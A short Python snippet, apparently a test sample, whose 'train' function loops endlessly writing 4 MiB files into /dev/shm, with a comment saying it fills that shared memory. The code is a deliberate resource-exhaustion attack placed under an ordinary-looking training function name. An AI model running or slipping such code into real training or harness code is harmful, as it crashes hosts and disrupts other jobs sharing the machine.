# Fills /dev/shm.
def train(model, task, run):
    number = 0
    while True:
        with open(f"/dev/shm/{number}", "wb") as file:
            file.write(bytes(4 << 20))
        number += 1
